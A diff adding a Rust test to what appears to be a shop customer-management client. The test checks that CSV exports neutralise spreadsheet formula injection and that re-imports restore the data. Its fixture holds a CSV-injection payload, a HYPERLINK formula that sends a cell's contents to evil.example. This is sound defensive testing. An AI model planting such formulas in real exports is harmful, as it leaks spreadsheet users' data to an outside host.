@@ -108,6 +108,63 @@ fn a_customer_csv_imports_all_rows_or_none() {
 }
 
 #[test]
+fn an_export_opens_safely_in_a_spreadsheet_and_imports_back_unchanged() {
+    let fx = Fixture::new();
+    let (t, owner) = fx.init();
+    // A name a spreadsheet would run as a formula (OWASP's CSV injection).
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    for (name, phone, address) in [
+        (hostile, "9876543210", "@SUM(1+1)"),
+        ("'Quoted' Traders", "9876543211", "-12, MG Road"),
+    ] {
+        t.add_customer(
+            &owner,
+            &galla_client::NewCustomer {
+                name: name.into(),
+                phone: Some(phone.into()),
+                address: Some(address.into()),
+                ..Default::default()
+            },
+        )
+        .unwrap();
+    }
+    let mut csv = Vec::new();
+    t.export_customers_csv(&owner, &mut csv).unwrap();
+    let mut rows = csv::Reader::from_reader(csv.as_slice());
+    let cells: Vec<String> = rows
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would run {cell:?}"
+        );
+    }
+    assert!(cells.contains(&format!("'{hostile}")), "{cells:?}");
+    assert!(cells.contains(&"'+919876543210".to_owned()), "{cells:?}");
+
+    // Into another shop, the export gives back the same customers.
+    let other = Fixture::new();
+    let (u, owner_u) = other.init();
+    let r = u.import_customers_csv(&owner_u, csv.as_slice()).unwrap();
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+    assert_eq!(r.imported, 2);
+    for (name, phone, address) in [
+        (hostile, "9876543210", "@SUM(1+1)"),
+        ("'Quoted' Traders", "9876543211", "-12, MG Road"),
+    ] {
+        let found = u.find_customers_by_phone(&owner_u, phone).unwrap();
+        assert_eq!(found.len(), 1, "{phone}");
+        let c = u.reveal_customer(&owner_u, found[0].id).unwrap();
+        assert_eq!(
+            (c.name.as_str(), c.address.as_deref()),
+            (name, Some(address))
+        );
+    }
+}
+
+#[test]
 fn a_clerks_lookup_is_an_exact_phone_first_then_name_words() {
     let fx = Fixture::new();
     let (t, owner) = fx.init();
